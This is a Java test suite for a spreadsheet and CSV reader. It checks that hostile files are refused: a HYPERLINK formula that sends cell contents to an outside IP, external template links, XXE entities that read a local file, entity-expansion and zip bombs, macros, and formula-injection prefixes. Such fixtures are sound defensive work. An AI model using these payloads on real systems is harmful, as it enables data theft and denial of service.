package org.tradeseal.gateway.spreadsheet;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.ss.usermodel.CellStyle;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.tradeseal.verify.ErrorCode;
import org.tradeseal.verify.Refusal;

/** Tables as people make them, and as an attacker does. */
@Timeout(60)
class SpreadsheetTest {
    private static final String SHEET = "xl/worksheets/sheet1.xml";
    private static final Charset GB18030 = Charset.forName("GB18030");

    @TempDir
    private Path folder;

    private static List<Spreadsheet.Row> rows(Path file) throws IOException {
        List<Spreadsheet.Row> rows = new ArrayList<>();
        Spreadsheet.open(file, null).read(rows::add);
        return rows;
    }

    private static List<List<String>> cells(Path file) throws IOException {
        return rows(file).stream().map(Spreadsheet.Row::cells).toList();
    }

    private Refusal refused(Path file, ErrorCode code, String because) {
        Refusal[] found = new Refusal[1];
        assertThatThrownBy(() -> rows(file)).isInstanceOfSatisfying(Refusal.class, refusal -> {
            assertThat(refusal.detail().en()).contains(because);
            assertThat(refusal.detail().zh()).isNotBlank();
            assertThat(refusal.code()).isEqualTo(code);
            found[0] = refusal;
        });
        return found[0];
    }

    private Path csv(String text) throws IOException {
        return csv(text.getBytes(StandardCharsets.UTF_8));
    }

    private Path csv(byte[] bytes) throws IOException {
        return Files.write(Files.createTempFile(folder, "table", ".csv"), bytes);
    }

    private Path workbook(Consumer<XSSFSheet> content) throws IOException {
        Path file = Files.createTempFile(folder, "table", ".xlsx");
        try (XSSFWorkbook workbook = new XSSFWorkbook();
                OutputStream out = Files.newOutputStream(file)) {
            content.accept(workbook.createSheet("Assets"));
            workbook.write(out);
        }
        return file;
    }

    private static void row(XSSFSheet sheet, int number, String... values) {
        var row = sheet.createRow(number);
        for (int i = 0; i < values.length; i++) {
            row.createCell(i).setCellValue(values[i]);
        }
    }

    private Path plain() throws IOException {
        return workbook(sheet -> {
            row(sheet, 0, "Class", "Title");
            row(sheet, 1, "SOFTWARE", "港口");
        });
    }

    // The same workbook with some parts changed, added, or (null) left out.
    private Path altered(Path workbook, Map<String, String> parts) throws IOException {
        Map<String, byte[]> all = new LinkedHashMap<>();
        try (ZipInputStream in = new ZipInputStream(Files.newInputStream(workbook))) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                all.put(entry.getName(), in.readAllBytes());
            }
        }
        parts.forEach((name, text) -> all.put(name, text.getBytes(StandardCharsets.UTF_8)));
        Path file = Files.createTempFile(folder, "altered", ".xlsx");
        try (ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(file))) {
            for (Map.Entry<String, byte[]> part : all.entrySet()) {
                out.putNextEntry(new ZipEntry(part.getKey()));
                out.write(part.getValue());
            }
        }
        return file;
    }

    private static String part(Path workbook, String name) throws IOException {
        try (ZipInputStream in = new ZipInputStream(Files.newInputStream(workbook))) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                if (entry.getName().equals(name)) {
                    return new String(in.readAllBytes(), StandardCharsets.UTF_8);
                }
            }
        }
        throw new IOException(name);
    }

    private static String sheet(String rows) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet"
                + " xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>" + rows
                + "</sheetData></worksheet>";
    }

    @Test
    void rowsOfAWorkbookComeAsTextWithTheirNumbers() throws IOException {
        Path file = workbook(sheet -> {
            row(sheet, 0, "Class", "Title", "Day", "Lines", "Share", "Flag");
            CellStyle day = sheet.getWorkbook().createCellStyle();
            day.setDataFormat(sheet.getWorkbook().createDataFormat().getFormat("yyyy/m/d"));
            var row = sheet.createRow(4);
            row.createCell(1).setCellValue(" 港口排程 ");
            row.createCell(2).setCellValue(LocalDate.of(2026, 1, 15));
            row.getCell(2).setCellStyle(day);
            row.createCell(3).setCellValue(48000);
            row.createCell(4).setCellValue(0.5);
            row.createCell(5).setCellValue(true);
        });
        List<Spreadsheet.Row> rows = rows(file);
        assertThat(rows).hasSize(2);
        assertThat(rows.get(1).number()).isEqualTo(5);
        assertThat(rows.get(1).cells()).containsExactly("", "港口排程", "2026-01-15", "48000", "0.5", "true");
    }

    @Test
    void theSheetOfTheNameIsReadAndAHiddenOneIsNot() throws IOException {
        Path file = workbook(sheet -> {
            row(sheet, 0, "secret");
            XSSFSheet second = sheet.getWorkbook().createSheet("二");
            row(second, 0, "two");
            sheet.getWorkbook().setActiveSheet(1);
            sheet.getWorkbook().setSheetVisibility(0, org.apache.poi.ss.usermodel.SheetVisibility.HIDDEN);
        });
        assertThat(cells(file)).containsExactly(List.of("two"));
        assertThatThrownBy(() -> Spreadsheet.open(file, "Assets").read(r -> {}))
                .isInstanceOf(Refusal.class)
                .hasMessageContaining("no visible sheet");
    }

    @Test
    void formulasAreRefusedByTheirCell() throws IOException {
        Path file = workbook(sheet -> {
            row(sheet, 0, "Class", "Title");
            row(sheet, 1, "SOFTWARE");
            sheet.getRow(1).createCell(1).setCellFormula("HYPERLINK(\"http://198.51.100.1/\"&A1)");
        });
        assertThat(refused(file, ErrorCode.MALFORMED, "formula").field()).isEqualTo("B2");
    }

    @Test
    void mergedAndHiddenCellsAreRefused() throws IOException {
        assertThat(refused(
                                workbook(sheet -> {
                                    row(sheet, 0, "Class", "Title");
                                    row(sheet, 1, "SOFTWARE", "x");
                                    row(sheet, 2, "", "y");
                                    sheet.addMergedRegion(new CellRangeAddress(1, 2, 0, 0));
                                }),
                                ErrorCode.MALFORMED,
                                "merged")
                        .field())
                .isEqualTo("A2:A3");
        assertThat(refused(
                                workbook(sheet -> {
                                    row(sheet, 0, "Class", "Title");
                                    row(sheet, 1, "SOFTWARE", "x");
                                    sheet.getRow(1).setZeroHeight(true);
                                }),
                                ErrorCode.MALFORMED,
                                "hidden")
                        .field())
                .isEqualTo("A2");
        assertThat(refused(
                                workbook(sheet -> {
                                    row(sheet, 0, "Class", "Title");
                                    sheet.setColumnHidden(1, true);
                                }),
                                ErrorCode.MALFORMED,
                                "hidden")
                        .field())
                .isEqualTo("B1");
    }

    @Test
    void macrosAreRefusedUnderAnyName() throws IOException {
        assertThatThrownBy(() -> Spreadsheet.open(Files.write(folder.resolve("a.xlsm"), new byte[] {1}), null))
                .isInstanceOf(Refusal.class)
                .hasMessageContaining(".xlsm");
        Path plain = plain();
        refused(altered(plain, Map.of("xl/vbaProject.bin", "x")), ErrorCode.MALFORMED, "macros");
        String types = part(plain, "[Content_Types].xml");
        refused(
                altered(
                        plain,
                        Map.of(
                                "[Content_Types].xml",
                                types.replace(
                                        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                                        "application/vnd.ms-excel.sheet.macroEnabled.main+xml"))),
                ErrorCode.MALFORMED,
                "macros");
    }

    @Test
    void linksOutsideEmbeddedObjectsAndConnectionsAreRefused() throws IOException {
        Path plain = plain();
        refused(altered(plain, Map.of("xl/externalLinks/externalLink1.xml", "<x/>")), ErrorCode.MALFORMED, "links");
        refused(altered(plain, Map.of("xl/embeddings/oleObject1.bin", "x")), ErrorCode.MALFORMED, "embedded");
        refused(altered(plain, Map.of("xl/connections.xml", "<x/>")), ErrorCode.MALFORMED, "connections");
        String relationships = part(plain, "xl/_rels/workbook.xml.rels");
        refused(
                altered(
                        plain,
                        Map.of(
                                "xl/_rels/workbook.xml.rels",
                                relationships.replace(
                                        "</Relationships>",
                                        "<Relationship Id=\"rId99\""
                                                + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
                                                + " TargetMode=\"External\""
                                                + " Target=\"http://198.51.100.1/t\"/></Relationships>"))),
                ErrorCode.MALFORMED,
                "links");
    }

    @Test
    void entitiesAreResolvedNowhere() throws IOException {
        Path secret = Files.writeString(folder.resolve("secret"), "CANARY");
        String entity = "<!DOCTYPE x [<!ENTITY e SYSTEM \"" + secret.toUri() + "\">]>";
        Path plain = plain();
        String rows = "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>&e;</t></is></c></row>";
        for (String name :
                List.of(SHEET, "xl/workbook.xml", "xl/sharedStrings.xml", "xl/styles.xml", "[Content_Types].xml")) {
            String text = name.equals(SHEET) ? sheet(rows) : part(plain, name);
            String with = text.substring(0, text.indexOf("?>") + 2) + entity + text.substring(text.indexOf("?>") + 2);
            Path file = altered(plain, Map.of(name, with));
            assertThatThrownBy(() -> rows(file))
                    .as(name)
                    .isInstanceOf(Refusal.class)
                    .hasMessageNotContaining("CANARY");
        }
        String bomb = "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>";
        Path file =
                altered(plain, Map.of(SHEET, sheet(rows.replace("&e;", "&b;")).replace("?>", "?>" + bomb)));
        refused(file, ErrorCode.XML_DTD_FORBIDDEN, "document type");
    }

    @Test
    void aZipBombIsRefusedBeforeItIsUnpacked() throws IOException {
        Path file = Files.createTempFile(folder, "bomb", ".xlsx");
        Path plain = plain();
        byte[] spaces = new byte[1 << 20];
        Arrays.fill(spaces, (byte) ' ');
        try (ZipInputStream in = new ZipInputStream(Files.newInputStream(plain));
                ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(file))) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                out.putNextEntry(new ZipEntry(entry.getName()));
                byte[] bytes = in.readAllBytes();
                if (entry.getName().equals(SHEET)) {
                    out.write(sheet("").replace("</sheetData></worksheet>", "").getBytes(StandardCharsets.UTF_8));
                    for (int i = 0; i < 600; i++) {
                        out.write(spaces);
                    }
                    out.write("</sheetData></worksheet>".getBytes(StandardCharsets.UTF_8));
                } else {
                    out.write(bytes);
                }
            }
        }
        assertThat(Files.size(file)).isLessThan(1 << 20);
        refused(file, ErrorCode.TOO_LARGE, "zip bomb");
    }

    @Test
    void aTruncatedOrForeignFileIsRefused() throws IOException {
        byte[] whole = Files.readAllBytes(plain());
        for (int length : new int[] {0, 3, 100, whole.length / 2, whole.length - 5}) {
            Path file = Files.write(Files.createTempFile(folder, "cut", ".xlsx"), Arrays.copyOf(whole, length));
            refused(file, ErrorCode.MALFORMED, "cannot be read");
        }
        byte[] ole = {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1};
        refused(Files.write(folder.resolve("old.xlsx"), ole), ErrorCode.MALFORMED, "password");
        refused(altered(plain(), Map.of(SHEET, sheet("<row r=\"1\"><c"))), ErrorCode.MALFORMED, "cannot be read");
    }

    @Test
    void thousandsOfColumnsAndEndlessCellsAreRefused() throws IOException {
        Path plain = plain();
        String far = "<row r=\"1\"><c r=\"XFD1\" t=\"inlineStr\"><is><t>x</t></is></c></row>";
        assertThat(refused(altered(plain, Map.of(SHEET, sheet(far))), ErrorCode.TOO_LARGE, "columns")
                        .field())
                .isEqualTo("XFD1");
        String longCell =
                "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>" + "x".repeat(40_000) + "</t></is></c></row>";
        refused(altered(plain, Map.of(SHEET, sheet(longCell))), ErrorCode.TOO_LARGE, "characters");
        refused(csv("a" + ",x".repeat(5000)), ErrorCode.TOO_LARGE, "cells");
        refused(csv("a,b\n1," + "x".repeat(40_000)), ErrorCode.TOO_LARGE, "characters");
        refused(csv("a,b\n1,\"" + "x\n".repeat(3_000_000)), ErrorCode.TOO_LARGE, "quotation mark");
    }

    @ParameterizedTest
    @CsvSource({
        "<c r=\"A1\"><v>1E999999999</v></c>, digits",
        "<c r=\"A1\"><v>12345678901234567890</v></c>, digits",
        "<c r=\"A1\"><v>NaN</v></c>, number is none",
        "<c r=\"A1\" t=\"e\"><v>#REF!</v></c>, error",
        "<c r=\"A1\" t=\"s\"><v>99999</v></c>, damaged",
        "<c r=\"A1\" t=\"s\"><v>-1</v></c>, damaged",
        "<c r=\"B1\"><v>1</v></c><c r=\"A1\"><v>1</v></c>, order"
    })
    void whatIsNoValueIsRefusedByItsCell(String cell, String because) throws IOException {
        Refusal refusal = refused(
                altered(plain(), Map.of(SHEET, sheet("<row r=\"1\">" + cell + "</row>"))),
                ErrorCode.MALFORMED,
                because);
        assertThat(refusal.field()).isEqualTo(because.equals("order") ? "B1" : "A1");
    }

    @Test
    void rowsInTheWrongOrderAreRefused() throws IOException {
        refused(
                altered(plain(), Map.of(SHEET, sheet("<row r=\"5\"/><row r=\"5\"/>"))),
                ErrorCode.MALFORMED,
                "not in order");
    }

    @Test
    void aTextFileIsReadInUtf8OrGb18030() throws IOException {
        String text = "类别,名称\r\n软件,港口𠮷\r\n";
        List<List<String>> expected = List.of(List.of("类别", "名称"), List.of("软件", "港口𠮷"));
        assertThat(cells(csv(text))).isEqualTo(expected);
        assertThat(cells(csv("\uFEFF" + text))).isEqualTo(expected);
        assertThat(cells(csv(text.getBytes(GB18030)))).isEqualTo(expected);
        assertThat(cells(csv(("\uFEFF" + text).getBytes(GB18030)))).isEqualTo(expected);
    }

    @Test
    void anyOtherEncodingIsRefused() throws IOException {
        String text = "类别,名称\n软件,港口\n";
        refused(csv(("\uFEFF" + text).getBytes(StandardCharsets.UTF_16LE)), ErrorCode.MALFORMED, "UTF-16");
        refused(csv(("\uFEFF" + text).getBytes(StandardCharsets.UTF_16BE)), ErrorCode.MALFORMED, "UTF-16");
        refused(csv(new byte[] {'a', ',', (byte) 0xFF, (byte) 0xFF, '\n'}), ErrorCode.MALFORMED, "encoding");
        ByteArrayOutputStream broken = new ByteArrayOutputStream();
        broken.writeBytes(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF});
        broken.writeBytes(text.getBytes(GB18030));
        refused(csv(broken.toByteArray()), ErrorCode.MALFORMED, "encoding");
        refused(csv("a,b\n1,\0\n"), ErrorCode.MALFORMED, "NUL");
    }

    @Test
    void delimitersAndLineEndsInsideQuotesAreKept() throws IOException {
        assertThat(cells(csv("a;b\n\"1;2\";\"x\ny\"\n"))).containsExactly(List.of("a", "b"), List.of("1;2", "x\ny"));
        assertThat(cells(csv("a\tb\n1\t2\n"))).containsExactly(List.of("a", "b"), List.of("1", "2"));
        List<Spreadsheet.Row> rows = rows(csv("a,b\n\"x\ny\",1\n\nz,2\n"));
        assertThat(rows).extracting(Spreadsheet.Row::number).containsExactly(1, 2, 5);
    }

    @Test
    void aTableThatBreaksOffInAQuoteIsRefused() throws IOException {
        refused(csv("a,b\n1,\"x"), ErrorCode.MALFORMED, "breaks off");
    }

    @Test
    void whatASpreadsheetWouldCalculateIsQuotedWhereItIsWritten() {
        assertThat(List.of("=1+1", "+1", "-1", "@x", "\tx", "＝1"))
                .allSatisfy(text -> assertThat(Spreadsheet.harmless(text)).isEqualTo("'" + text));
        assertThat(Spreadsheet.harmless("a=1")).isEqualTo("a=1");
        assertThat(Spreadsheet.cell(0, 1)
                        + Spreadsheet.cell(25, 2)
                        + Spreadsheet.cell(26, 3)
                        + Spreadsheet.cell(702, 4))
                .isEqualTo("A1Z2AA3AAA4");
    }

    @Test
    void whatTheReaderOfTheRowsThrowsIsNoFaultOfTheTable() throws IOException {
        Path plain = plain();
        assertThatThrownBy(() -> Spreadsheet.open(plain, null).read(row -> {
                    throw new IllegalArgumentException("mine");
                }))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessage("mine");
        assertThatThrownBy(() -> Spreadsheet.open(plain, null).read(row -> {
                    throw new IOException("mine");
                }))
                .isInstanceOf(IOException.class)
                .hasMessage("mine");
    }
}
